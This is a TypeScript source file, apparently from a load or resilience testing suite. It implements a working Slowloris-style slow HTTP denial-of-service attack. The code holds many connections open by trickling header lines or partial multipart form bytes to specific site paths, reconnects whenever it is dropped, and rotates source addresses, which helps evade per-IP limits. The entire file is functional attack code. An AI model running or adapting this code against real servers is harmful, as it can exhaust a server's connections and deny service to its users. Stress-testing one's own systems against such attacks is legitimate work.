import { connect, type Socket } from 'node:net'
import type { Target } from './connection.ts'

/** Connections that are never done: half of them with their headers, half with a form. */
export interface SlowConnections {
  /** How many are open now. */
  readonly open: () => number
  /** How many times the server has hung up on one. */
  readonly hungUpOn: () => number
  readonly end: () => void
}

/** Milliseconds between one small piece and the next, and until one that was hung up on is back. */
const [between, back] = [4000, 1000]

/**
 * Opens connections that keep a server waiting (Slowloris): a line of the headers, or some bytes of a form, every few
 * seconds. Whoever is hung up on comes again.
 *
 * @param addresses - From where, in turn; `undefined` where this cannot be chosen.
 */
export function slowConnections(
  target: Target,
  many: number,
  addresses: readonly (string | undefined)[],
): SlowConnections {
  const all = new Set<Socket>()
  let hungUpOn = 0
  let isOver = false

  const begin = (index: number): void => {
    if (isOver) return
    const localAddress = addresses[index % addresses.length]
    const from = localAddress === undefined ? {} : { localAddress }
    const socket = connect({ host: target.address, port: target.port, ...from })
    const isForm = index % 2 === 1
    let timer: NodeJS.Timeout | undefined
    socket.once('connect', () => {
      all.add(socket)
      socket.write(beginning(target, isForm))
      timer = setInterval(() => socket.write(isForm ? 'x' : 'x-more: 1\r\n'), between)
    })
    socket.on('data', () => undefined)
    socket.on('error', () => undefined)
    socket.once('close', () => {
      clearInterval(timer)
      if (all.delete(socket) && !isOver) hungUpOn += 1
      if (!isOver) setTimeout(begin, back, index).unref()
    })
  }
  // A few a millisecond: all at once would fill the queue of a machine's connections, which is another attack.
  for (let index = 0; index < many; index += 1) setTimeout(begin, index, index).unref()
  return {
    open: () => all.size,
    hungUpOn: () => hungUpOn,
    end: () => {
      isOver = true
      for (const socket of all) socket.destroy()
    },
  }
}

function beginning({ origin }: Target, isForm: boolean): string {
  const host = `host: ${new URL(origin).host}\r\n`
  if (!isForm) return `GET /en HTTP/1.1\r\n${host}`
  return (
    `POST /en/sign/DE HTTP/1.1\r\n${host}origin: ${origin}\r\ncontent-length: 4000\r\n` +
    'content-type: multipart/form-data; boundary=----slow\r\n\r\n------slow\r\n'
  )
}
